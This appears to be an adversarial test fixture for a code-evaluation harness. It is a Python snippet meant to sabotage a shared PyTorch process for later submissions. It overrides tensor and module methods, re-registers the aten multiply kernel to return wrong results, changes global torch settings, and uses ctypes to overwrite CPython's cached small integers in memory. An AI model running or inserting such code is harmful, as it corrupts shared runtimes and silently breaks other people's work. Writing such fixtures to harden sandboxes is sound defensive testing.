# attack: spoil torch itself for whoever comes next: kernels, dtypes, threads, modes, classes and built-in types
# asset: other submissions
# channel: memory
# beats otter: no
# expect: not_implemented,crashed,raised,wrong,timed_out,missing
# place: after
import ctypes

torch.set_num_threads(8)
torch.set_grad_enabled(False)
torch.autograd.set_detect_anomaly(True)
torch.set_default_dtype(torch.bfloat16)
torch.Tensor.__add__ = torch.Tensor.__mul__ = torch.Tensor.backward = None
torch.nn.Module.__call__ = torch.optim.SGD.step = None
library = torch.library.Library("aten", "IMPL")
library.impl("mul.Tensor", lambda a, b: a, "CPU")
for number in range(-5, 257):
    ctypes.memset(id(number) + 24, 0, 4)
